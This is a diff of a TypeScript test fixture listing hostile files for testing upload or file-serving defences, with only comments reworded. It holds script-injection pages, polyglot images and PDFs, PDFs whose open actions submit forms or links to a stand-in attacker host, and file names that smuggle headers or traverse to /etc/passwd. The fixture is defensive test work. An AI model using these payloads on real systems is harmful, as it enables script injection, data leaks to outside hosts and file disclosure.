@@ -8,7 +8,7 @@ const bytes = (...parts: (string | number[] | Buffer)[]) =>
     parts.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : Buffer.from(one))),
   );
 
-/** A PDF of one page that does something when it is opened. */
+/** Returns a one-page PDF that runs an action when it is opened. */
 function pdfThat(action: string, more = ''): Buffer {
   const objects = [
     `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} ${more}>>`,
@@ -26,7 +26,7 @@ function pdfThat(action: string, more = ''): Buffer {
   return Buffer.from(written + table + end);
 }
 
-/** The header of an archive whose one file is a page. */
+/** Returns the header of a ZIP archive with one file. */
 const zipOf = (name: string, content: string) =>
   bytes(
     [0x50, 0x4b, 3, 4, 20, 0, 0, 0, 0, 0],
@@ -36,7 +36,7 @@ const zipOf = (name: string, content: string) =>
     content,
   );
 
-/** Files that would run, ask another server, or be taken for something else than they are: by content, by name, or by both. */
+/** Files that would run scripts, call another server, or pass for another type, by content, by name or by both. */
 export const hostileFiles: readonly { name: string; content: Buffer }[] = [
   // Pages and drawings.
   ['page.html', '<!doctype html><script>alert(1)</script>'],
@@ -53,13 +53,13 @@ export const hostileFiles: readonly { name: string; content: Buffer }[] = [
   ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
   ['page.mht', `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>`],
   ['formula.mml', '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>'],
-  // Scripts and styles, for pages that take them in.
+  // Scripts and styles that a page could load.
   ['script.js', 'alert(1); window.ran = true;'],
   ['script.txt', 'alert(1); window.ran = true;'],
   ['worker.js', `importScripts('${evil}/a.js'); alert(1);`],
   ['style.css', `@import "${evil}/a.css"; body { background: url(${evil}/a.png) }`],
   ['data.json', '{"__proto__":{"ran":true}}'],
-  // What begins as one thing and goes on as another.
+  // Polyglots: files that start as one type and continue as another.
   ['polyglot.gif', bytes('GIF89a/*', '\0'.repeat(8), '*/=1;alert(1);window.ran=true;')],
   ['polyglot.png', bytes(png, '<script>alert(1)</script>')],
   ['polyglot.jpg', bytes([0xff, 0xd8, 0xff, 0xe0, 0, 16], 'JFIF\0', '<script>alert(1)</script>')],
@@ -67,7 +67,7 @@ export const hostileFiles: readonly { name: string; content: Buffer }[] = [
   ['polyglot.wav', bytes('RIFF=1;alert(1);window.ran=true;WAVEfmt ', '\0'.repeat(32))],
   ['polyglot.pdf', bytes('%PDF-1.4\n', '<script>alert(1)</script>', '\n%%EOF')],
   ['late.pdf', bytes(' '.repeat(100), '<script>alert(1)</script>%PDF-1.4\n')],
-  // Documents that act.
+  // Documents with actions.
   ['script.pdf', pdfThat('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')],
   ['link.pdf', pdfThat(`<< /S /URI /URI (${evil}/opened) >>`)],
   ['send.pdf', pdfThat(`<< /S /SubmitForm /F (${evil}/sent) >>`)],
@@ -76,7 +76,7 @@ export const hostileFiles: readonly { name: string; content: Buffer }[] = [
   ['page.zip', zipOf('index.html', '<script>alert(1)</script>')],
   ['program.exe', bytes('MZ', '\0'.repeat(62), 'This program cannot be run in DOS mode.')],
   ['link.url', `[InternetShortcut]\nURL=javascript:alert(1)\nIconFile=${evil}/a.ico\n`],
-  // Names.
+  // Hostile names.
   ['<img src=x onerror=alert(1)>.txt', 'A name that is a tag'],
   ['"; filename=page.html; x="', 'A name that is a header'],
   ['../../../etc/passwd', 'A name that is a path'],
